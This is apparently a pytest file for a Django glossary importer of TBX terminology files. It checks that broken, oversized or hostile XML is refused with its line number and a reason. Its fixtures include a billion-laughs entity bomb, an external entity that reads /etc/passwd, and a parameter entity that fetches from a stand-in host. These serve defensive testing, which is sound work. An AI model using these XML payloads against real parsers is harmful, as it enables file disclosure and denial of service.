"""TBX that is broken, or worse: refused with its line and the reason."""

import pytest
from django.core.exceptions import ValidationError
from django.utils.translation import override

from glossary.interchange.tbx import file, parsing
from tests.glossary.tbx_files import (
    PLAIN,
    concept,
    read,
    read_one,
    section,
    term_section,
    v2,
    v3,
)

GOOD = v3(concept(PLAIN))
ENTITIES = (
    '<?xml version="1.0"?>\n<!DOCTYPE martif [\n<!ENTITY a "ha">\n'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n'
)
EXTERNAL = '<!DOCTYPE martif [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n'
PARAMETER = '<!DOCTYPE martif [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>\n'


@pytest.fixture(autouse=True)
def _english():
    with override("en"):
        yield


def changed(old, new, encoding="utf-8"):
    assert old in GOOD
    return lambda: GOOD.replace(old, new).encode(encoding)


REFUSED = {
    "nothing": (lambda: b" \n", "The file is empty."),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), "Line 1: this is no XML"),
    "a letter": (lambda: b"Dear colleagues", "Line 1: this is no XML"),
    "JSON": (lambda: b'{"a": 1}', "Line 1: this is no XML"),
    "billion laughs": (lambda: v2(beginning=ENTITIES), "Line 2: the file holds a DTD"),
    "an external entity": (
        lambda: v2(beginning=EXTERNAL),
        "Line 1: the file holds a DTD",
    ),
    "a parameter entity": (
        lambda: v2(beginning=PARAMETER),
        "Line 1: the file holds a DTD",
    ),
    "a DTD of version 3": (
        lambda: '<!DOCTYPE tbx SYSTEM "a.dtd">\n' + GOOD,
        "Line 1: the file holds a DTD",
    ),
    "an entity of a DTD that is not read": (
        lambda: v2("<note>&nbsp;</note>", beginning='<!DOCTYPE martif SYSTEM "a">\n'),
        "Line 4: there is an entity of a DTD",
    ),
    "an entity of no DTD": (
        changed("данные", "&nbsp;данные"),
        "Line 4: there is an entity of a DTD",
    ),
    "200,000 nested elements": (
        lambda: GOOD.replace("<conceptEntry", "<x>" * 200_000 + "<conceptEntry"),
        "Line 3: more than 32 elements lie within one another",
    ),
    "200,000 nested elements in a text": (
        changed("данные", "<hi>" * 200_000 + "данные" + "</hi>" * 200_000),
        "Line 4: more than 32 elements lie within one another",
    ),
    "a huge text": (
        changed("данные", "д" * 200_001),
        "Line 4: a text has more than 200000 characters",
    ),
    "a huge attribute": (
        changed('id="open-data"', f'id="{"a" * 200_001}"'),
        "Line 3: a text has more than 200000 characters",
    ),
    "a huge file": (
        lambda: GOOD + " " * parsing.LARGEST,
        "The file is larger than 20 MB",
    ),
    "a huge entry": (
        changed("<langSec", "<x/>" * 5001 + "<langSec"),
        "Line 4: an entry has more than 5000 elements",
    ),
    "too many entries": (
        lambda: v3(*["<conceptEntry/>"] * 10_001),
        "Line 10003: the file has more than 10000 entries",
    ),
    "too many elements": (
        lambda: v3(concept(PLAIN), back="\n<x>" + "<a/>" * 500_000 + "</x>"),
        "Line 7: the file has more than 500000 elements",
    ),
    "Windows-1251 that says it is UTF-8": (
        lambda: GOOD.encode("windows-1251"),
        "Line 4: a letter is damaged, or the text is not in the encoding",
    ),
    "UTF-8 that says it is Windows-1251": (
        lambda: '<?xml version="1.0" encoding="windows-1251"?>' + GOOD,
        "Line 1: the file says that it is in windows-1251, but it is in UTF-8",
    ),
    "an encoding that nobody knows": (
        lambda: '<?xml version="1.0" encoding="koi-99"?>' + v3(),
        "Line 1: a letter is damaged, or the text is not in the encoding",
    ),
    "an encoding that cannot be read": (
        lambda: '<?xml version="1.0" encoding="utf-7"?>' + GOOD,
        "Line 1: a letter is damaged, or the text is not in the encoding",
    ),
    "a cut letter": (
        lambda: GOOD.encode()[: GOOD.encode().index("ы".encode()) + 1],
        "Line 4: a letter is damaged",
    ),
    "a bell": (changed("данные", "дан\aные"), "Line 4 holds a sign that is no text"),
    "a NUL": (changed("данные", "дан\0ные"), "Line 4 holds a sign that is no text"),
    "a bell by its number": (
        changed("данные", "дан&#7;ные"),
        "Line 4 holds a sign that is no text",
    ),
    "an element that is not closed": (
        changed("</termSec>", ""),
        "Line 4 ends another element",
    ),
    "half a file": (lambda: GOOD[:-40], "Line 4: the file ends before"),
    "a loose bracket": (changed("данные", "a < b"), "Line 4: this is not written as"),
    "no entry": (lambda: v3(), "The file holds no entry"),
    "the name of no language for the file": (
        lambda: v3(concept(PLAIN), language="xx!"),
        "Line 1: “xx!” is no language tag",
    ),
    **{
        f"the dialect {name}": (
            lambda name=name: v3(concept(PLAIN), kind=name),
            f"Line 1: the file is in the dialect “{name}”",
        )
        for name in ["TBX-Core", "TBX-Min", "TBX-Linguist", "TBX-DNB"]
    },
    "a dialect of 2008": (
        lambda: v2(kind="TBX-Other"),
        "Line 1: the file is in the dialect “TBX-Other”",
    ),
    "another namespace": (
        changed("urn:iso:std:iso:30042:ed-2", "urn:other"),
        "Line 1: the namespace “urn:other” is not that of TBX",
    ),
    **{
        f"a file of {kind}": (
            lambda root=root: f"<?xml version='1.0'?>\n<{root}></{root.split()[0]}>",
            f"Line 2: this is {kind}, for it begins with <{root.split()[0]}>",
        )
        for root, kind in {
            "xliff version='1.2'": "XLIFF",
            "tmx": "TMX",
            "TBX dialect='TBX-Min'": "TBX-Min",
            "html": "HTML",
        }.items()
    },
    "a web page": (lambda: b"<!DOCTYPE html><p>", "Line 1: this is HTML"),
    "XML of any kind": (lambda: b"<recipe/>", "Line 1: the file begins with <recipe>"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_file_that_is_none_is_refused_with_its_line_and_the_reason(case):
    make, expected = REFUSED[case]
    with pytest.raises(ValidationError) as caught:
        read(make())
    [message] = caught.value.messages
    assert message.startswith(expected)


def test_what_takes_too_much_time_is_refused(monkeypatch):
    monkeypatch.setattr(file, "SECONDS", 0)
    with pytest.raises(ValidationError, match="too much time or memory"):
        read(GOOD)


PREFERRED = '<termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>'
WRONG = {
    "a tag that is none": (
        section(term_section(), tag="xx!"),
        "Line 4: “xx!” is no language tag, such as ru or en-GB.",
    ),
    "no tag": (
        section(term_section()).replace(' xml:lang="ru"', ""),
        "Line 4: “” is no language tag, such as ru or en-GB.",
    ),
    "a term without words": (
        section(term_section(" ")),
        "Line 4: a term has no words.",
    ),
    "a section without a term": (
        section("<termSec><note>x</note></termSec>"),
        "Line 4: a term has no words.",
    ),
    "a term twice": (
        section(term_section("a"), "\n", term_section(" a ")),
        "Line 5: the term “a” stands in line 4 already.",
    ),
    "two preferred terms": (
        section(term_section("a", PREFERRED), "\n", term_section("b", PREFERRED)),
        "Line 5: “b” is preferred, as is the term of line 4. One is in each language.",
    ),
    "two preferred terms of two sections": (
        section(term_section("a", PREFERRED))
        + "\n"
        + section(term_section("b", PREFERRED), tag="ru-RU"),
        "Line 5: “b” is preferred, as is the term of line 4. One is in each language.",
    ),
}


@pytest.mark.parametrize("case", WRONG)
def test_an_entry_that_cannot_be_is_refused_with_its_line_and_the_reason(case):
    part, expected = WRONG[case]
    assert read_one(part).errors == [expected]


def test_the_same_term_and_a_preferred_one_may_be_in_each_language():
    told = read_one(
        section(term_section("a", PREFERRED)),
        section(term_section("a", PREFERRED), tag="en"),
    )
    assert told.errors == []


@pytest.mark.parametrize("again", ["open-data", "_open-data"])
def test_a_code_that_two_entries_have_is_refused(again):
    [first, second], _head = read(v3(concept(PLAIN), concept(PLAIN, code=again)))
    assert first.errors == []
    assert second.errors == [f"Line 6: the code “{again}” stands in line 3 already."]


@pytest.mark.parametrize("code", ["код", "a.b", "a b", "a" * 81])
def test_an_id_that_is_no_code_is_refused(code):
    [told], _head = read(v3(concept(PLAIN, code=code)))
    [error] = told.errors
    assert error.startswith("Line 3: “")
    assert "is no code" in error


def test_the_reason_is_told_in_the_language_of_who_reads_it():
    with override("ru"), pytest.raises(ValidationError) as caught:
        read(v3(concept(PLAIN), kind="TBX-Min"))
    [message] = caught.value.messages
    assert message.startswith("Строка 1: файл составлен в диалекте «TBX-Min».")
